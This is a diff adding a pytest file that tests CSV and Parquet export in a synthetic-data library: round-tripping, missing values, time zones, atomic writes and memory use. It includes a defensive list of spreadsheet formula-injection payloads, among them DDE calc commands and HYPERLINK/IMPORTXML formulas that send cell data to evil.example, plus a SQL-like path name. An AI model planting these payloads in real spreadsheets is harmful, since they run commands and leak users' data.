@@ -1,0 +1,276 @@
+"""Rows to files: everything comes back, nothing half-written stays, no cell runs."""
+
+from __future__ import annotations
+
+import csv
+import resource
+import signal
+import subprocess
+import sys
+import textwrap
+import time
+from fractions import Fraction
+from pathlib import Path
+
+import duckdb
+import numpy as np
+import pyarrow.parquet as pq
+import pytest
+
+from understudy.errors import Refused
+from understudy.releases import write_rows
+from understudy.releases.frames import cells
+from understudy.releases.writing import guarded
+from understudy.schema import Boolean, Categorical, Datetime, Integer, Real, Schema
+
+from .builders import EVERY_TYPE, SMALL, codes_of, release
+
+OPENERS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
+BODIES = [
+    "cmd|' /C calc'!A0",
+    "HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
+    "SUM(1+1)*cmd|' /C notepad'!A0",
+    "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
+    "1+1",
+    "A1",
+    "@SUM(A1:A2)",
+    "2+5+cmd|' /C calc'!A0",
+    "\"quoted\"",
+    " spaced",
+]  # fmt: skip
+PAYLOADS = [opener + body for opener in OPENERS for body in BODIES]
+
+
+def names(folder: Path) -> list[str]:
+    return [path.name for path in folder.iterdir()]
+
+
+def rows_of(path: Path) -> list[list[str]]:
+    with path.open(newline="", encoding="utf-8") as file:
+        return list(csv.reader(file))
+
+
+def read_codes(path: Path, schema: Schema) -> dict[str, list[int]]:
+    """The codes of a CSV file's cells, by the codec's own rule for text."""
+    header, *rows = rows_of(path)
+    return {name: [schema.codecs[name].code(row[header.index(name)]) for row in rows] for name in schema}
+
+
+def test_a_csv_file_holds_the_codes_it_was_written_from(tmp_path):
+    codes = codes_of(EVERY_TYPE, 3000)
+    write_rows(EVERY_TYPE, codes, tmp_path / "a.csv", np.random.default_rng(0))
+    assert rows_of(tmp_path / "a.csv")[0] == list(EVERY_TYPE)
+    back = read_codes(tmp_path / "a.csv", EVERY_TYPE)
+    for name in EVERY_TYPE:
+        assert back[name] == codes[name].tolist(), name
+
+
+def test_a_parquet_file_holds_the_same_rows_in_their_types(tmp_path):
+    codes = codes_of(EVERY_TYPE, 3000)
+    write_rows(EVERY_TYPE, codes, tmp_path / "a.parquet", np.random.default_rng(0))
+    back = pq.read_table(tmp_path / "a.parquet")
+    assert back.column_names == list(EVERY_TYPE)
+    kinds = "string, bool, int64, double, date32[day], timestamp[us], timestamp[us, tz=UTC], time64[us]"
+    assert ", ".join(map(str, back.schema.types)) == kinds
+    for name in EVERY_TYPE:
+        codec = EVERY_TYPE.codecs[name]
+        blank = {
+            codec.spelled(j) for j, text in enumerate(codec.column.missing) if text in {"?", "NA"}
+        }  # no value of its type
+        expected = [codec.empty if code in blank else code for code in codes[name].tolist()]
+        assert [codec.code(value) for value in back[name].to_pylist()] == expected, name
+
+
+def test_missing_cells_come_back_as_they_are_spelled(tmp_path):
+    columns = (
+        Integer(name="age", min=0, max=3, missing=("-7", "refused")),
+        Boolean(name="ok", true=("Ja",), false=("Nein",), missing=("?",)),
+        Categorical(name="sex", values=("F",), other="andere", missing=("-9",)),
+    )
+    codes = {"age": np.arange(7) % 7, "ok": np.arange(7) % 4, "sex": np.arange(7) % 4}
+    write_rows(Schema(columns=columns), codes, tmp_path / "a.csv", np.random.default_rng(0))
+    assert rows_of(tmp_path / "a.csv")[1:] == [
+        ["0", "Nein", "F"],
+        ["1", "Ja", "andere"],
+        ["2", "", ""],
+        ["3", "?", "-9"],
+        ["", "Nein", "F"],
+        ["-7", "Ja", "andere"],
+        ["refused", "", ""],
+    ]
+
+
+def test_decimals_are_as_short_as_they_can_be_and_exact(tmp_path):
+    schema = Schema(
+        columns=(Real(name="x", min=0, max=1, step=Fraction(1, 100), bins=tuple(range(102)), nullable=False),)
+    )
+    write_rows(schema, {"x": np.arange(101)}, tmp_path / "a.csv", np.random.default_rng(0))
+    assert [row[0] for row in rows_of(tmp_path / "a.csv")[1:]] == [str(i / 100) for i in range(101)]
+
+
+def test_instants_name_their_offset_through_a_change_of_clocks(tmp_path):
+    from datetime import UTC, datetime, timedelta
+
+    start = datetime(2024, 10, 27, 0, tzinfo=UTC)
+    column = Datetime(
+        name="t",
+        min=start,
+        max=start + timedelta(hours=2),
+        zone="Europe/Berlin",
+        resolution=timedelta(minutes=30),
+        nullable=False,
+    )
+    schema = Schema(columns=(column,))
+    write_rows(schema, {"t": np.arange(5)}, tmp_path / "a.csv", np.random.default_rng(0))
+    assert [row[0] for row in rows_of(tmp_path / "a.csv")[1:]] == [
+        "2024-10-27 02:00:00+02:00",
+        "2024-10-27 02:30:00+02:00",
+        "2024-10-27 02:00:00+01:00",
+        "2024-10-27 02:30:00+01:00",
+        "2024-10-27 03:00:00+01:00",
+    ]
+
+
+# -- formulas -----------------------------------------------------------------------------------------------------------------
+
+
+def test_there_are_a_hundred_payloads():
+    assert len(set(PAYLOADS)) >= 100
+
+
+def test_learned_labels_never_start_a_formula(tmp_path):
+    schema = Schema(columns=(Categorical(name="x", values=tuple(PAYLOADS), learned=("values",), nullable=False),))
+    write_rows(schema, {"x": np.arange(len(PAYLOADS))}, tmp_path / "a.csv", np.random.default_rng(0))
+    cells = [row[0] for row in rows_of(tmp_path / "a.csv")[1:]]
+    assert len(cells) == len(PAYLOADS)
+    for cell, payload in zip(cells, PAYLOADS, strict=True):
+        assert cell in (payload, "'" + payload)
+        assert not cell.startswith(tuple(OPENERS)) or payload in ("+1+1", "-1+1"), payload
+    assert all(cell == "'" + payload for cell, payload in zip(cells, PAYLOADS, strict=True))
+
+
+def test_headers_never_start_a_formula(tmp_path):
+    schema = Schema(columns=tuple(Integer(name=name, min=0, max=1, nullable=False) for name in PAYLOADS))
+    write_rows(schema, {name: np.array([1]) for name in PAYLOADS}, tmp_path / "a.csv", np.random.default_rng(0))
+    header, row = rows_of(tmp_path / "a.csv")
+    assert header == ["'" + name for name in PAYLOADS]
+    assert row == ["1"] * len(PAYLOADS)
+
+
+def test_numbers_and_declared_labels_are_left_alone(tmp_path):
+    schema = Schema(
+        columns=(
+            Integer(name="i", min=-2, max=1, nullable=False),
+            Real(name="r", min=-2, max=1, step=1, nullable=False),
+            Categorical(name="declared", values=("-1", "=A1", "+x", "@y"), nullable=False),
+            Categorical(name="learned", values=("-1", "+2.5e3", "-.5", "x"), learned=("values",), nullable=False),
+        )
+    )
+    write_rows(schema, {name: np.arange(4) for name in schema}, tmp_path / "a.csv", np.random.default_rng(0))
+    columns = list(zip(*rows_of(tmp_path / "a.csv")[1:], strict=True))
+    assert columns == [
+        ("-2", "-1", "0", "1"),
+        ("-2.0", "-1.0", "0.0", "1.0"),
+        ("-1", "=A1", "+x", "@y"),
+        ("-1", "+2.5e3", "-.5", "x"),
+    ]
+
+
+def test_parquet_keeps_labels_as_they_are(tmp_path):
+    schema = Schema(columns=(Categorical(name="=x", values=("=A1",), learned=("values",), nullable=False),))
+    write_rows(schema, {"=x": np.array([0])}, tmp_path / "a.parquet", np.random.default_rng(0))
+    back = duckdb.sql(f"SELECT * FROM '{tmp_path}/a.parquet'")
+    assert back.columns == ["=x"]
+    assert back.fetchall() == [("=A1",)]
+
+
+def test_a_nul_is_guarded_too():
+    assert guarded("\0=A1") == "'\0=A1"
+
+
+# -- files --------------------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("suffix", ["csv", "parquet"])
+def test_many_chunks_make_one_file_with_the_rows_of_a_frame(tmp_path, monkeypatch, suffix):
+    monkeypatch.setattr(cells, "CHUNK", 100)
+    path = tmp_path / f"a.{suffix}"
+    assert release(EVERY_TYPE).write(path, 1050, seed=5) == 1050
+    frame = release(EVERY_TYPE).sample(1050, seed=5, kind="duckdb")
+    reader = f"read_csv('{path}', all_varchar=true)" if suffix == "csv" else f"'{path}'"
+    assert duckdb.sql(f"SELECT count(*) FROM {reader}").fetchall() == [(1050,)]
+    written = duckdb.sql(f"SELECT CAST(weight AS DOUBLE), CAST(seen AS TIMESTAMP) FROM {reader}").fetchall()
+    assert written == frame.project("weight, seen").fetchall()
+    assert names(tmp_path) == [path.name]
+
+
+@pytest.mark.parametrize("suffix", ["csv", "parquet"])
+def test_no_rows_make_a_file_with_a_header(tmp_path, suffix):
+    path = tmp_path / f"a.{suffix}"
+    assert release().write(path, 0) == 0
+    assert duckdb.sql(f"SELECT * FROM '{path}'").columns == list(SMALL)
+    assert duckdb.sql(f"SELECT count(*) FROM '{path}'").fetchall() == [(0,)]
+
+
+def test_names_that_differ_only_in_case(tmp_path):
+    schema = Schema(columns=tuple(Integer(name=name, min=0, max=1, nullable=False) for name in ("a", "A")))
+    codes = {"a": np.array([0]), "A": np.array([1])}
+    write_rows(schema, codes, tmp_path / "a.csv", np.random.default_rng(0))
+    assert rows_of(tmp_path / "a.csv") == [["a", "A"], ["0", "1"]]
+    with pytest.raises(Refused, match="only in case"):
+        write_rows(schema, codes, tmp_path / "a.parquet", np.random.default_rng(0))
+
+
+def test_other_formats_are_refused(tmp_path):
+    with pytest.raises(Refused, match=r"\.csv or \.parquet"):
+        release().write(tmp_path / "a.xlsx")
+    assert names(tmp_path) == []
+
+
+def test_a_quote_in_a_path_is_only_a_quote(tmp_path):
+    folder = tmp_path / "it's; DROP"
+    folder.mkdir()
+    for suffix in ("csv", "parquet"):
+        release().write(folder / f"o'x.{suffix}", 3)
+    assert sorted(names(folder)) == ["o'x.csv", "o'x.parquet"]
+
+
+def test_an_interrupt_leaves_the_old_file_and_nothing_else(tmp_path):
+    """A real Ctrl-C into a real process that is in the middle of writing."""
+    path = tmp_path / "a.csv"
+    path.write_text("old")
+    program = textwrap.dedent(f"""
+        import numpy as np
+        from understudy.releases import write_rows
+        from understudy.schema import Integer, Schema
+        schema = Schema(columns=tuple(Integer(name=f"c{{i}}", min=0, max=10**6) for i in range(12)))
+        codes = {{name: np.zeros(20_000_000, np.uint8) for name in schema}}
+        print("ready", flush=True)
+        write_rows(schema, codes, {str(path)!r}, np.random.default_rng(0))
+    """)
+    process = subprocess.Popen(
+        [sys.executable, "-c", program], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
+    )
+    assert process.stdout.readline() == "ready\n"
+    deadline = time.monotonic() + 30
+    while time.monotonic() < deadline and not any(p.stat().st_size for p in tmp_path.glob(".*/draft")):
+        time.sleep(0.05)
+    assert any(tmp_path.glob(".*.partial"))
+    process.send_signal(signal.SIGINT)
+    _, errors = process.communicate(timeout=60)
+    assert "KeyboardInterrupt" in errors
+    assert path.read_text() == "old"
+    assert names(tmp_path) == ["a.csv"]
+
+
+@pytest.mark.slow
+def test_memory_does_not_grow_with_the_number_of_rows(tmp_path):
+    schema = Schema(columns=tuple(Integer(name=f"c{i}", min=0, max=10**6) for i in range(10)))
+    for suffix in ("csv", "parquet"):
+        peaks = []
+        for rows in (1_000_000, 8_000_000):
+            codes = {name: np.zeros(rows, np.uint8) for name in schema}
+            write_rows(schema, codes, tmp_path / f"a.{suffix}", np.random.default_rng(0))
+            peaks.append(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
+        # beyond the codes themselves (80 MB) only a few chunks' worth; whole columns of 64-bit values would be 640 MB
+        assert peaks[1] - peaks[0] < 300_000
